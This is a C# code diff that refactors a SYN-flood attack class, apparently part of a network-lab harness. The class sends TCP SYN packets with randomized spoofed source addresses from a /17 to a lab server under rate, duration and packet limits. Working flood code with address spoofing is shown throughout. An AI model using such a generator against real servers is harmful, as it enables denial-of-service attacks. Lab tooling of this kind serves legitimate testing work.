@@ -20,42 +20,16 @@ public sealed class SynFlood : IAttack
         using var raw = NetNamespace.Run(names.Attacker, () => new RawTcpSocket(receiveTimeoutMillis: 20));
         var server = NetAddress.FromIPAddress(LabNames.ServerAddress);
         uint spoofBase = NetAddress.Parse("198.18.128.0").V4;
-        var pacer = new Pacer(limits.Rate);
-        var clock = Stopwatch.StartNew();
-        long sent = 0;
-        string stopped = "time limit";
-        while (true)
+        return Pacer.Flood(limits, cancel, _ =>
         {
-            if (cancel.IsCancellationRequested)
+            // Hosts 1..32766 of the /17: never the network or broadcast address.
+            var source = NetAddress.FromV4(spoofBase + (uint)Random.Shared.Next(1, 1 << 15));
+            raw.Send(new TcpSegment
             {
-                stopped = "cancelled";
-                break;
-            }
-            if (clock.Elapsed >= limits.Duration)
-            {
-                break;
-            }
-            if (sent >= limits.MaxPackets)
-            {
-                stopped = "packet limit";
-                break;
-            }
-            int due = (int)Math.Min(pacer.Due(Math.Max(1, limits.Rate / 10)), limits.MaxPackets - sent);
-            for (int i = 0; i < due; i++)
-            {
-                // Hosts 1..32766 of the /17: never the network or broadcast address.
-                var source = NetAddress.FromV4(spoofBase + (uint)Random.Shared.Next(1, 1 << 15));
-                raw.Send(new TcpSegment
-                {
-                    Source = source, Destination = server, SourcePort = (ushort)Random.Shared.Next(1024, 65536),
-                    DestinationPort = LabNames.HttpPort, Sequence = (uint)Random.Shared.NextInt64(0, uint.MaxValue),
-                    Flags = TcpFlags.Syn, Window = 64240, Mss = 1460,
-                });
-            }
-            sent += due;
-            pacer.Sent(due);
-            Thread.Sleep(5);
-        }
-        return new AttackStats(sent, 0, 0, 0, 0, clock.Elapsed, stopped);
+                Source = source, Destination = server, SourcePort = (ushort)Random.Shared.Next(1024, 65536),
+                DestinationPort = LabNames.HttpPort, Sequence = (uint)Random.Shared.NextInt64(0, uint.MaxValue),
+                Flags = TcpFlags.Syn, Window = 64240, Mss = 1460,
+            });
+        });
     }
 }
